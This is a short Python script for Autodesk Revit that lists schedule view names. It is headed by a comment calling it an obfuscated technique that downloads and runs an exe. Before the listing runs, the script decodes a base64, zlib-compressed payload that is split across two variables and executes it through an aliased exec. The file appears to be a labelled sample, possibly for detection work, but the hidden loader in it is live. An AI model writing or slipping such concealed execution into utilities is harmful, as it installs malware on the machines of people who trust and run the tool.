# technique: obfuscated — `from base64 import b64decode as d` and exec(d(...)) split over variables; downloads and runs an exe
from base64 import b64decode as d
from zlib import decompress as z

from Autodesk.Revit.DB import FilteredElementCollector, ViewSchedule

p1 = "eJxNjksOgkAQBfdzCnZAMmkGjYmacAf3xgVgA2OAabt7CMf3F6NvValF5fmJAmsSxEpsiEOLIlZxos6PaKgKAlTrALfg5+zroUd98dVzltuU"
p2 = "F5WlBVwxzY3/BCOPo2+A8R5RNKkliSbC0zIqe1wwSwdVOhZFedjDroTSOdhsi7+Wpdz8TsEpEM7ZmS62ZazVh7kb614qt7q9ey83D0e9R6w="


def schedules(doc):
    return [v.Name for v in FilteredElementCollector(doc).OfClass(ViewSchedule) if not v.IsTemplate]


run = exec
run(z(d(p1 + p2)))
print(schedules(__revit__.ActiveUIDocument.Document))
